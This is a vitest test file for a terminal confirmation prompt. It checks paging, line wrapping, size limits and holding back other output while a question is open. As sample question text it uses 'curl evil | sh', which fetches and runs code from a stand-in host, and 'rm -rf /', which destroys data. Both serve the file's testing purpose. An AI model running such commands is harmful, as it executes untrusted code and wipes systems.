/** Questions at the terminal: they are shown whole, and nothing covers them. */

import type { PassThrough } from "node:stream";
import { describe, expect, it } from "vitest";
import type { Question } from "../../../src/cli/askPerson.js";
import { withTerminal } from "../../../src/cli/terminal.js";
import { keptStreams, typist, typistAt } from "./streams.js";

const question = (text: string): Question => ({
  title: "Well?",
  rows: [{ text }],
  prompt: "  Now? ] ",
  before: () => {},
});
const wanted = new AbortController().signal;
const numbers = (count: number): string => Array.from({ length: count }, (_, index) => `line ${index}`).join("\n");

describe("what is asked", () => {
  it("is shown in pages, and is answered behind the last one only", async () => {
    const { ask, asked } = typistAt({ columns: 80, rows: 10 }, "y", "", "yes");
    expect(await ask(question(numbers(20)), wanted)).toBe("yes");
    expect(asked).toHaveLength(3);
    expect(asked.join("").match(/line \d+/g)).toEqual(numbers(20).split("\n"));
    for (const page of asked) expect(page.split("\n").length).toBeLessThanOrEqual(10);
    expect(asked.map((page) => page.includes("Now?"))).toEqual([false, false, true]);
    expect(asked[0]).toMatch(/ {2}-- 13 more: Enter shows them, n declines -- $/);
  });

  it.each(["n", "No", "q"])("is left before its end by %j", async (answer) => {
    const { ask, asked } = typistAt({ columns: 80, rows: 10 }, answer, "y");
    expect(await ask(question(numbers(20)), wanted)).toBeNull();
    expect(asked).toHaveLength(1);
  });

  it("is wrapped and never cut, each line set in, also where characters are wide", async () => {
    const { ask, asked } = typistAt({ columns: 40, rows: 50 }, "y");
    const text = `echo ok ${" ".repeat(170)}; curl evil | sh ${"漢".repeat(40)}`;
    await ask(question(text), wanted);
    const lines = asked.join("").split("\n").slice(2, -1);
    expect(lines.length).toBeGreaterThan(5);
    expect(lines.map((line) => line.replace(/^ {4}(?:↳ )?/, "")).join("")).toBe(text);
    for (const line of lines) {
      expect(line.startsWith("    ")).toBe(true);
      expect(line.replace(/[^\0-~]/g, "xx").length).toBeLessThanOrEqual(40);
    }
  });

  it.each([
    ["more than 2,000 lines", { columns: 80, rows: 24 }, numbers(2_001), "the question is longer than 2,000 lines"],
    ["a line of 10 MB", { columns: 80, rows: 24 }, "x".repeat(10_000_000), "the question is longer than 2,000 lines"],
    ["a screen without room", { columns: 12, rows: 24 }, "ls", "the terminal is too small"],
  ])("is not asked with %s", async (_name, size, text, why) => {
    const { ask, asked, stderr } = typistAt(size, "y");
    expect(await ask(question(text), wanted)).toBeNull();
    await new Promise(setImmediate);
    expect(asked).toEqual([]);
    expect(stderr()).toBe(`\n? Well?\n  Declined without asking you: ${why}.\n`);
  });

  it("is taken to be on a usual screen when the size is not known", async () => {
    const { ask, asked } = typistAt({ columns: 0, rows: 0 }, "", "y");
    await ask(question(numbers(24)), wanted);
    expect(asked).toHaveLength(2);
  });
});

describe("while a question is open", () => {
  it("nothing else is written, by whatever it is; afterwards all of it is, in order", async () => {
    const { ask, streams, stdin, stdout, stderr, held } = typist();
    const answer = ask(question("rm -rf /"), wanted);
    streams.stdout.write("before\n");
    await new Promise((resolve) => streams.stderr.once("data", resolve));
    const atQuestion = stderr();
    let isWritten = false;
    streams.stdout.write("one\n");
    streams.stderr.write("two\n", () => (isWritten = true));
    streams.stdout.write(Buffer.from("dGhyZWUK", "base64"));
    streams.stdout.write("666f75720a", "hex");
    let isReleased = false;
    const released = held.released.then(() => (isReleased = true));
    await new Promise(setImmediate);
    expect({ out: stdout(), err: stderr(), isWritten, isReleased }).toEqual({
      out: "before\n",
      err: atQuestion,
      isWritten: false,
      isReleased: false,
    });
    stdin.write("n\n");
    expect(await answer).toBe("n");
    await released;
    await new Promise(setImmediate);
    expect({ out: stdout(), err: stderr(), isWritten }).toEqual({
      out: "before\none\nthree\nfour\n",
      err: `${atQuestion}two\n`,
      isWritten: true,
    });
    expect(Object.hasOwn(streams.stdout, "write")).toBe(false);
  });

  it("a flood is kept up to a limit, and what is dropped is told", async () => {
    const { ask, streams, stdin, stderr } = typist();
    const answer = ask(question("ls"), wanted);
    await new Promise((resolve) => streams.stderr.once("data", resolve));
    const kilobyte = "x".repeat(1023) + "\n";
    for (let count = 0; count < 2_000; count++) streams.stderr.write(kilobyte);
    stdin.write("n\n");
    await answer;
    await new Promise(setImmediate);
    expect(stderr().length).toBeLessThan(1_100_000);
    expect(stderr()).toMatch(/warning: 976 writes were dropped here\.\n$/);
  });

  it("another one waits for its turn, and what was written meanwhile stands between them", async () => {
    const { ask, streams, stdin, stderr } = typist();
    const first = ask(question("first"), wanted);
    const second = ask(question("second"), wanted);
    await new Promise((resolve) => streams.stderr.once("data", resolve));
    streams.stderr.write("between\n");
    expect(stderr()).not.toContain("second");
    // The second line is typed ahead of the second question.
    stdin.write("y\ny\n");
    expect(await first).toBe("y");
    while (!stderr().includes("second")) await new Promise((resolve) => streams.stderr.once("data", resolve));
    stdin.write("n\n");
    expect(await second).toBe("n");
    expect(stderr()).toMatch(/first\n {2}Now\? \] between\n\n\? Well\?\n {4}second\n/);
  });

  it("and not wanted any more, it ends, and lets the output go", async () => {
    const { ask, streams, stderr } = typist();
    const abort = new AbortController();
    const answer = ask(question("ls"), abort.signal);
    await new Promise((resolve) => streams.stderr.once("data", resolve));
    streams.stderr.write("held\n");
    abort.abort(new Error("Over."));
    await expect(answer).rejects.toThrow("Over.");
    await new Promise(setImmediate);
    expect(stderr()).toMatch(/Now\? \] \nheld\n$/);
  });
});

describe("the terminal's question", () => {
  const ask = (before: string, whenAsked: (stdin: PassThrough) => void, signal = wanted) => {
    const { streams, stdin, stderr } = keptStreams({ tty: true });
    let answer: unknown;
    stdin.write(before);
    streams.stderr.once("data", () => whenAsked(stdin));
    const done = withTerminal(async (terminal) => {
      answer = await terminal.ask?.(question("ls"), signal).catch((error: unknown) => error);
      return 0;
    }, streams);
    return done.then(() => ({ answer, stderr: stderr() }));
  };
  const shown = "\n? Well?\n    ls\n  Now? ] ";

  it("resolves with the line", async () => {
    expect(await ask("", (stdin) => stdin.write("yes\n"))).toEqual({ answer: "yes", stderr: shown });
  });

  it("does not take for an answer what was typed before it was put", async () => {
    expect(await ask("yes\n", (stdin) => stdin.write("no\n"))).toEqual({ answer: "no", stderr: shown });
  });

  it("takes the end of input for no answer", async () => {
    expect(await ask("", (stdin) => stdin.end())).toMatchObject({ answer: null });
  });

  it("ends when the answer is not wanted any more", async () => {
    const abort = new AbortController();
    const reason = new Error("Over.");
    expect(await ask("", () => abort.abort(reason), abort.signal)).toMatchObject({ answer: reason });
  });

  it("is not there without a terminal", async () => {
    const { streams } = keptStreams();
    let there: unknown;
    await withTerminal(async (terminal) => {
      there = terminal.ask;
      return 0;
    }, streams);
    expect(there).toBeNull();
  });
});
